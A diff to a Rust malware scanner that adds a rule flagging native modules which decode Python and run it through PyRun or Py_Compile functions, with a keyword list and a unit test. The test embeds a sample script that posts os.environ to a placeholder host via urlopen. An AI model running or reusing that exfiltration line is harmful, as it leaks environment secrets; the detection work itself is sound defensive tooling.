@@ -92,6 +92,48 @@ rule! {
     reference: "https://attack.mitre.org/techniques/T1480/",
 }
 
+rule! {
+    /// A program, or a module of Python, decodes the source of a script of Python, and has Python run it; what it decodes opens
+    /// connections or starts programs. Known uses: modules in packages whose script no scanner can read. Honest look-alikes:
+    /// none is known; modules that run Python of their own carry it as it is, or compiled.
+    pub(super) PYTHON = "native-decodes-python-that-reaches-out" in "exec/decode-exec";
+    severity: Critical, confidence: Certain,
+    title: "Decodes a script of Python that reaches out, and runs it",
+    reference: "https://attack.mitre.org/techniques/T1059/006/",
+}
+
+/// Functions of Python that run, or compile, a text.
+const RUN_PYTHON: &[&str] = &[
+    "PyRun_SimpleString",
+    "PyRun_SimpleStringFlags",
+    "PyRun_String",
+    "PyRun_StringFlags",
+    "Py_CompileString",
+    "Py_CompileStringFlags",
+    "Py_CompileStringExFlags",
+    "Py_CompileStringObject",
+];
+/// What a script does that it has no reason to hide from whoever reads the module.
+const REACHES_OUT: &[&str] =
+    &["urlopen", "urllib", "requests.", "socket", "http.client", "subprocess", "os.system", "os.popen", "exec("];
+/// Letters of a decoded text by which it is looked for in the file.
+const BEGINNING: usize = 24;
+
+/// A script of Python that the program decodes and that reaches out.
+fn python_of<'m>(file: &'m Parsed<'_>) -> Option<&'m Made> {
+    let is_script = |made: &&Made| {
+        let Ok(text) = std::str::from_utf8(&made.bytes) else { return false };
+        let imports = text.starts_with("import ") || text.starts_with("from ") || text.contains("\nimport ");
+        imports && text.contains('\n') && REACHES_OUT.iter().any(|word| text.contains(word))
+    };
+    if file.images().iter().all(|image| image.imported(RUN_PYTHON).is_empty()) {
+        return None;
+    }
+    let made = file.made().iter().find(is_script)?;
+    let beginning = made.bytes.get(..made.bytes.len().min(BEGINNING))?;
+    (!file.view().holds(beginning)).then_some(made)
+}
+
 /// What a text means.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
 enum Kind {
@@ -222,7 +264,7 @@ pub(super) struct Decoded;
 
 impl Heuristic for Decoded {
     fn rules(&self) -> &'static [&'static Rule] {
-        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED, &LOADS, &WATCHED] }
+        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED, &LOADS, &WATCHED, &PYTHON] }
     }
 
     fn applies(&self, kind: FileKind) -> bool {
@@ -240,6 +282,10 @@ impl Heuristic for Decoded {
                     told.push((kind, word, made, &made.bytes));
                 }
             }
+        }
+        if let Some(made) = python_of(file) {
+            let note = format!("code at {:#x} makes: {}", made.at, shown(&made.bytes));
+            out.findings.push(PYTHON.finding(placed(made.offset, 0, note)));
         }
         let count = |kind: Kind| told.iter().filter(|(k, ..)| *k == kind).count();
         let has = |kind: Kind| count(kind) > 0;
@@ -369,7 +415,7 @@ mod tests {
     }
 
     /// A program that calls its decoder with each of these texts.
-    fn program(texts: &[&str]) -> Vec<u8> {
+    fn program(texts: &[&str], imports: Vec<&'static str>) -> Vec<u8> {
         // 1000: xor ecx, ecx; loop: mov eax, ecx; and eax, 3; lea r8, [rip + key]; movzx r9d, byte [r8 + rax];
         // xor r9b, [rdi + rcx]; imul eax, ecx, 7; xor r9b, al; mov [rdx + rcx], r9b; inc rcx; cmp rcx, rsi; jb loop; ret
         let mut code = vec![0x31, 0xc9, 0x89, 0xc8, 0x83, 0xe0, 0x03, 0x4c, 0x8d, 0x05];
@@ -401,12 +447,23 @@ mod tests {
         }
         code.push(0xc3);
         let mut elf = ElfBuilder::program();
-        (elf.entry, elf.code, elf.data) = (entry, code, data);
+        (elf.entry, elf.code, elf.data, elf.imports) = (entry, code, data, imports);
         elf.build()
     }
 
     fn seen(texts: &[&str]) -> Vec<&'static str> {
-        ids(&check(&Decoded, FileKind::Elf, "x", &program(texts)))
+        ids(&check(&Decoded, FileKind::Elf, "x", &program(texts, Vec::new())))
+    }
+
+    #[test]
+    fn a_script_of_python_that_is_decoded_and_run_is_told() {
+        let found = |script: &str, function: &'static str| {
+            ids(&check(&Decoded, FileKind::Elf, "x", &program(&[script], vec![function])))
+        };
+        let script = "import os, urllib.request as u\nu.urlopen('https://h.invalid/', str(os.environ).encode())\n";
+        assert_eq!(found(script, "PyRun_SimpleString"), ["native-decodes-python-that-reaches-out"]);
+        assert!(found(script, "PyModule_Create2").is_empty(), "nobody runs it");
+        assert!(found("import math\nprint(math.pi)\n", "PyRun_SimpleString").is_empty(), "it only computes");
     }
 
     #[test]
